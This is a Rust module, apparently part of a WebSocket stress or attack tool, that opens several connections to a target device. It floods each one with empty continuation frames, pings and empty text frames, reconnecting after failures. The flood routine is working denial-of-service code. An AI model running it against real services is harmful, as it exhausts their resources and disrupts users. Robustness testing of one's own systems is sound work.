//! Frames that say nothing: continuations without content, pings, empty texts.

use std::convert::Infallible as Never;
use std::sync::Arc;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::time::sleep;

use super::attack::{Attack, BREATH, crowd};
use super::talk::Talk;
use crate::device::Device;
use crate::error::ClientError;

const SOCKETS: usize = 8;
/// How many frames are written at once.
const AT_ONCE: usize = 512;

/// The beginning of a text that goes on; a part of it without content; a ping; an empty text. All
/// are masked with zeros, as frames of a client have to be masked.
const BEGUN: [u8; 6] = [0x01, 0x80, 0, 0, 0, 0];
const GOES_ON: [u8; 6] = [0x00, 0x80, 0, 0, 0, 0];
const PING: [u8; 6] = [0x89, 0x80, 0, 0, 0, 0];
const EMPTY: [u8; 6] = [0x81, 0x80, 0, 0, 0, 0];

pub(super) async fn run(attack: Arc<Attack>) {
    let (_, device) = attack.table().await;
    crowd(attack.many(SOCKETS), |number| {
        let (attack, device) = (attack.clone(), device.clone());
        async move {
            loop {
                // Half of them send parts of a text, the others whole frames of both kinds.
                let frame = [GOES_ON, PING, GOES_ON, EMPTY][number % 4];
                let Err(error) = pour(&attack, &device, frame).await;
                attack.failed(&error);
                sleep(BREATH).await;
            }
        }
    })
    .await;
}

/// Sends frames for as long as they are taken.
async fn pour(attack: &Attack, device: &Device, frame: [u8; 6]) -> Result<Never, ClientError> {
    let mut talk = Talk::open(device, None).await?;
    let stream = talk.stream().get_mut();
    let (mut answers, mut frames) = stream.split();
    if frame == GOES_ON {
        frames.write_all(&BEGUN).await?;
    }
    let some = frame.repeat(AT_ONCE);
    let pour = async {
        loop {
            if let Err(error) = frames.write_all(&some).await {
                return ClientError::from(error);
            }
            attack.tally.done(AT_ONCE as u64);
            tokio::task::yield_now().await;
        }
    };
    let drain = async {
        let mut answer = [0; 4096];
        while answers.read(&mut answer).await.is_ok_and(|count| count > 0) {}
        ClientError::Closed { code: None, refusal: None }
    };
    tokio::select! {
        error = pour => Err(error),
        error = drain => Err(error),
    }
}
